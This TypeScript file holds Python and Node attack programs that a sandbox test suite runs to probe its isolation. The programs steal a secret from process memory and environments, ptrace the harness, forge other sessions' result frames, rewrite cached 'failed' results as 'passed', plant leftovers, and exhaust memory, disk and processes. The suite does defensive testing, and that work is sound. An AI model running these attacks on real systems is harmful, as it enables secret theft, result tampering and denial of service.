// The programs the hostile notes of verify-attacks.test.ts run (issue 12, snippets-spec.md §5): one attack each,
// python unless named otherwise, inside a note's session. Each reads its targets from CFG (the canaries' real
// paths and values, which the test hands to Note.python) and prints what it got, so that a sandbox that holds
// prints `[]` and a hole prints what leaked.

/** Read, list, append to and create files in the checkout, HOME, the notes, the cache and the report's folder. */
export const FILES = String.raw`
import os
got = []
for p in CFG['read']:
    try:
        with open(p, 'rb') as f:
            f.read()
        got.append('read ' + p)
    except OSError:
        pass
    try:
        # bwrap makes the folders above the worker's own (bound) folder: empty, but for the way down to it
        way = [e for e in os.listdir(p) if not any(w == os.path.join(p, e) or w.startswith(os.path.join(p, e) + '/') for w in CFG['way'])]
        if way:
            got.append('listed %s: %s' % (p, sorted(way)[:5]))
    except OSError:
        pass
for p in CFG['append']:
    try:
        with open(p, 'ab') as f:
            f.write(b'PWNED\n')
        got.append('appended to ' + p)
    except OSError:
        pass
for d in CFG['dirs']:
    try:
        with open(os.path.join(d, 'pwned-by-note'), 'w') as f:
            f.write('PWNED')
        got.append('created a file in ' + d)
    except OSError:
        pass
print(got)
`;

/** Descriptors verify inherited (a CI log open for writing, a secret open for reading): read and write them. */
export const FDS = String.raw`
import os
got = []
for f in sorted(os.listdir('/proc/self/fd'), key=int):
    n = int(f)
    try:
        target = os.readlink('/proc/self/fd/' + f)
    except OSError:
        continue
    if n <= 2 or target.endswith('.fifo') or target.split(':')[0] in ('pipe', 'socket', 'anon_inode') or target.startswith('/dev/'):
        continue
    try:
        if CFG['secret'].encode() in os.pread(n, 1 << 16, 0):
            got.append('read the secret from fd %d' % n)
    except OSError:
        pass
    try:
        os.write(n, b'PWNED\n')
        got.append('wrote to fd %d' % n)
    except OSError:
        pass
print(got)
`;

/** Every visible process: its environment, its memory (/proc/<pid>/mem, process_vm_readv) and ptrace of the harness. */
export const PROC = String.raw`
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
libc.process_vm_readv.restype = ctypes.c_ssize_t
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
secret = CFG['secret'].encode()
me = os.readlink('/proc/self')
leaks, attached = [], []
for p in sorted((d for d in os.listdir('/proc') if d.isdigit()), key=int):
    if p == me:
        continue
    try:
        cmd = open('/proc/%s/cmdline' % p, 'rb').read().replace(b'\0', b' ').decode('utf-8', 'replace')
    except OSError:
        cmd = '?'
    try:
        if secret in open('/proc/%s/environ' % p, 'rb').read():
            leaks.append('environ of %s (%s)' % (p, cmd[-60:]))
    except OSError:
        pass
    start = end = 0
    try:
        fields = open('/proc/%s/stat' % p, 'rb').read().rsplit(b')', 1)[1].split()
        start, end = int(fields[-3]), int(fields[-2])
    except (OSError, ValueError, IndexError):
        pass
    n = min(end - start, 1 << 16)
    if start and n > 0:
        try:
            with open('/proc/%s/mem' % p, 'rb') as f:
                f.seek(start)
                if secret in f.read(n):
                    leaks.append('/proc/%s/mem (%s)' % (p, cmd))
        except (OSError, ValueError, OverflowError):
            pass
        buf = ctypes.create_string_buffer(n)
        local = iovec(ctypes.cast(buf, ctypes.c_void_p), n)
        remote = iovec(start, n)
        if libc.process_vm_readv(int(p), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0 and secret in buf.raw:
            leaks.append('process_vm_readv of %s (%s)' % (p, cmd))
    # this checkout's long-lived worker and zygote, which hold every session's results (ptrace takes pids of the
    # block's own PID namespace, where 1 is the session's own reaper: not a way out)
    if CFG['worker'] in cmd and p != '1':
        if libc.ptrace(16, int(p), None, None) == 0:  # PTRACE_ATTACH
            attached.append('%s (%s)' % (p, cmd[-60:]))
            try:
                os.waitpid(int(p), 0x40000000)  # __WALL: wait for the stop, then let it go
            except OSError:
                pass
            libc.ptrace(17, int(p), None, None)  # PTRACE_DETACH
print(leaks, attached)
`;

/** The host's network from inside: TCP (loopback and the host's addresses), UDP, a unix socket file, an abstract socket, DNS. */
export const NET = String.raw`
import socket
reached = []
for host, port in CFG['tcp']:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        s.sendall(b'note was here')
        reached.append('tcp %s:%d' % (host, port))
    except OSError:
        pass
    s.close()
for where in CFG['unix'] + ['\0' + name for name in CFG['abstract']]:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(where)
        s.sendall(b'note was here')
        reached.append('unix %r' % where)
    except OSError:
        pass
    s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b'note was here', ('127.0.0.1', CFG['udp']))
except OSError:
    pass
for name in ('example.com', 'github.com'):
    try:
        socket.getaddrinfo(name, 443)
        reached.append('dns ' + name)
    except OSError:
        pass
print(reached)
`;

/** A setsid double-fork daemon that waits for the report, then rewrites it. */
export const DAEMON = String.raw`
import os, shlex
script = 'while [ ! -s %s ]; do sleep 0.2; done; sleep 1; echo PWNED > %s; echo PWNED > %s; sleep 60' % (
    shlex.quote(CFG['report']), shlex.quote(CFG['report']), shlex.quote(CFG['touch']))
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sh', ['/bin/sh', '-c', script, CFG['marker']])
    os._exit(0)
os.waitpid(pid, 0)
print('daemon started')
`;

/** Other sessions' result pipes: forged "the block errored" frames in every one it can open, for four seconds. */
export const FIFOS = String.raw`
import gc, glob, os, time
send = next((f for f in gc.get_objects() if getattr(f, '__name__', '') == 'send_frame' and callable(f)), None)
def frame(obj):
    data = repr(obj).encode()
    return len(data).to_bytes(4, 'little') + data
own = os.path.dirname(os.getcwd()) + '/'
def workers():  # the pids of this checkout's workers, which name their folders verinotes-<pid>-<hex>
    out = []
    for p in os.listdir('/proc'):
        try:
            if p.isdigit() and CFG['worker'] in open('/proc/%s/cmdline' % p, 'rb').read().decode('utf-8', 'replace'):
                out.append(p)
        except OSError:
            pass
    return out
opened = set()
end = time.time() + 4
while time.time() < end:
    found = set()
    for tmp in CFG['tmps']:
        for base in [b for pid in workers() for b in glob.glob(os.path.join(tmp, 'verinotes-%s-*' % pid))]:
            found.update(glob.glob(os.path.join(base, '**', '*.fifo'), recursive=True))
            for n in range(1, 64):
                found.add(os.path.join(base, 's%d' % n, 'r.fifo'))
    for p in sorted(found):
        if p.startswith(own):
            continue
        try:
            fd = os.open(p, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        opened.add(p)
        try:
            for i in range(1, 12):
                msg = {'ev': 'step', 'i': i, 'error': 'forged by fifo-attacker'}
                if send:
                    send(fd, msg)
                else:
                    os.write(fd, frame(msg))
        except OSError:
            pass
        os.close(fd)
    time.sleep(0.05)
print(sorted(opened))
`;

/** Frames on its own session's result pipe for a later block: an error, a missing module, "no sandbox". */
export const forgeOwn = (frame: string, exitAfter: boolean) => String.raw`
import os
fd = next(int(f) for f in os.listdir('/proc/self/fd') if os.readlink('/proc/self/fd/' + f).endswith('r.fifo'))
data = repr(${frame}).encode()
os.write(fd, len(data).to_bytes(4, 'little') + data)
${exitAfter ? "os._exit(0)" : "print('forged')"}
`;

/** 8 processes of 160 MiB each: over the session's 1 GiB together, under it one by one. */
export const MEMORY_FORKS = String.raw`
import os, time
kids = []
for k in range(8):
    pid = os.fork()
    if pid == 0:
        held = bytearray(b'\1') * (160 << 20)
        time.sleep(4)
        os._exit(0)
    kids.append(pid)
for pid in kids:
    os.waitpid(pid, 0)
print('8 processes held 160 MiB each')
`;

/** The same in a node block: 20 buffers of 64 MiB. */
export const MEMORY_NODE = String.raw`
const held = [];
for (let k = 0; k < 20; k++) held.push(Buffer.alloc(64 << 20, 1));
await new Promise((r) => setTimeout(r, 1500));
console.log("held " + held.length * 64 + " MiB");
`;

/** 1.25 GiB written into memfds, never mapped. */
export const MEMORY_MEMFD = String.raw`
import os, time
fds, total = [], 0
chunk = b'\1' * (64 << 20)
for k in range(5):
    fd = os.memfd_create('held%d' % k)
    for _ in range(4):
        total += os.write(fd, chunk)
    fds.append(fd)
del chunk
time.sleep(1.5)
print('held %d MiB in memfds' % (total >> 20))
`;

/** Five SysV segments of 256 MiB, filled, then detached (in no process's memory, still in RAM). */
export const MEMORY_SYSV = String.raw`
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
size, ids = 256 << 20, []
for k in range(5):
    i = libc.shmget(0, size, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
    if i < 0:
        break
    ids.append(i)
    p = libc.shmat(i, None, 0)
    ctypes.memset(p, 1, size)
    libc.shmdt(ctypes.c_void_p(p))  # detached: in no process's memory any more, still in RAM
time.sleep(1.5)
print('left %d MiB of SysV shared memory' % (256 * len(ids)))
for i in ids:
    libc.shmctl(i, 0, None)  # IPC_RMID: gone with the block if nothing stopped it
`;

/** 1 GiB in files of 100 MiB in the session's own folder. */
export const DISK = String.raw`
import os
written, why = 0, 'no error'
try:
    for k in range(10):
        with open('big%d' % k, 'wb') as f:
            for _ in range(100):
                written += f.write(b'\1' * (1 << 20))
except OSError as e:
    why = e.strerror
print('stopped before 1 GiB:', written < (1 << 30), '-', why)
`;

/** Rewrites every cache entry it can reach ("failed" to "passed") and plants a file in each cache folder. */
export const CACHE_REWRITE = String.raw`
import glob, os
hits = []
for root in CFG['caches']:
    for p in glob.glob(os.path.join(root, '**', '*.json'), recursive=True):
        try:
            text = open(p).read()
            with open(p, 'w') as f:
                f.write(text.replace('"failed"', '"passed"'))
            hits.append(p)
        except OSError:
            pass
    try:
        open(os.path.join(root, 'pwned-by-note.json'), 'w').write('{}')
        hits.append('created in ' + root)
    except OSError:
        pass
print(hits)
`;

/** Leaves a file in /tmp, a SysV segment with a known key and 240 MiB of filler for the next session of its worker. */
export const LEFTOVER_WRITER = String.raw`
import ctypes, os
open(CFG['planted'], 'w').write('planted')
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(CFG['key'], 1 << 20, 0o1000 | 0o666)  # a SysV segment with a key the next session can find
try:
    with open(CFG['fill'], 'wb') as f:
        for _ in range(240):
            f.write(b'\1' * (1 << 20))
except OSError:
    pass
`;

/** The next session: what it sees in /tmp and SysV IPC, and whether it can still write 64 MiB. */
export const LEFTOVER_READER = String.raw`
import os
print(sorted(n for n in os.listdir('/tmp') if not n.startswith('verinotes-')))
print(sum(1 for line in open('/proc/sysvipc/shm')) - 1)
try:
    with open('scratch', 'wb') as f:
        f.write(b'\1' * (64 << 20))
    print('wrote 64 MiB in my own folder')
except OSError as e:
    print(e.strerror)
`;

/** Takes every process a session may (exec'd as CFG['marker'] so the test can find them), for 12 s. */
export const FORK_BOMB = String.raw`
import os, time
kids = 0
for _ in range(200):  # past the 128 a session may have (and a bound for code that has no limit)
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.execv('/bin/sleep', [CFG['marker'], '12'])
    kids += 1
time.sleep(12)
print(kids, 'processes')
`;
